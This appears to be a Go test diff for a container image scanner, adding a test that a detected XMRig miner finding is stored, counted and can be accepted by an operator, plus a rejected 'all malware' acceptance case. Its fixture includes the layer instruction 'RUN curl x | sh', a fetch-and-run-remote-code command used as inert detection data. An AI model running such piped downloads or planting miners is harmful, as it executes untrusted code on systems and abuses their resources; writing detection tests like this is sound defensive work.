@@ -109,6 +109,36 @@ func TestSecretsAndFaultsAreKept(t *testing.T) {
 	})
 }
 
+// TestMalwareIsKeptAndAccepted: by its rule, below a path.
+func TestMalwareIsKeptAndAccepted(t *testing.T) {
+	inBubble(t, func(t *testing.T, f *fleet) {
+		a := f.join(one, container("a", web))
+		w := a.wish(1)
+		miner := inventory.Malware{Place: inventory.Place{Path: "/tmp/.x", Layer: 2}, Rule: "miner_xmrig", Title: "XMRig", Kind: inventory.Miner, By: inventory.ByRule, Print: "p"}
+		inv := inventory.Inventory{
+			Subject: inventory.Subject{Kind: inventory.KindImage}, Analysis: f.analysis, Packages: []inventory.Package{}, Malware: []inventory.Malware{miner},
+			Image: &inventory.Image{ID: w.ImageID, Layers: []inventory.Layer{{}, {Instruction: "RUN curl x | sh"}}},
+		}
+		if err := f.Inventory(t.Context(), link.Scanned{AgentID: one, Job: w.Job, ImageID: w.ImageID, Inventory: packed(t, inv)}); err != nil {
+			t.Fatal(err)
+		}
+		synctest.Wait()
+		f.wantOf("first", store.KindMalware, "miner_xmrig ×1")
+		found, err := f.st.FindingsIn(t.Context(), store.FindingQuery{Kind: store.KindMalware})
+		if err != nil || len(found) != 1 || found[0].Instruction != "RUN curl x | sh" || found[0].Malware.Why == "" || f.image(web).Counts.Malware != 1 {
+			t.Errorf("found %+v, %v; counts %+v", found, err, f.image(web).Counts)
+		}
+		_, err = f.Accept(t.Context(), operator, images.NewAcceptance{
+			Kind: store.KindMalware, Rule: "miner_xmrig", Path: "/tmp/*", Reason: "r", Expires: time.Now().Add(time.Hour),
+		})
+		if err != nil {
+			t.Fatal(err)
+		}
+		later(2 * time.Second)
+		f.wantOf("accepted", store.KindMalware, "accepted miner_xmrig ×1")
+	})
+}
+
 // TestTooManySecretsAreTheGravest: a file of made-up keys does not fill the store.
 func TestTooManySecretsAreTheGravest(t *testing.T) {
 	inBubble(t, func(t *testing.T, f *fleet) {
@@ -211,6 +241,7 @@ func TestAcceptancesOfFindingsThatAreNone(t *testing.T) {
 			"no such kind":          {Kind: "weather", Rule: "rain"},
 			"no rule":               {Kind: store.KindSecret},
 			"every secret":          {Kind: store.KindSecret, Rule: "secrets"},
+			"all malware":           {Kind: store.KindMalware, Rule: "malware"},
 			"a sentence":            {Kind: store.KindSecret, Rule: "all of them"},
 			"a weakness beside":     {Kind: store.KindSecret, Rule: "jwt", Vulnerability: "CVE-2026-1"},
 			"a package":             {Kind: store.KindSecret, Rule: "jwt", Package: "openssl"},
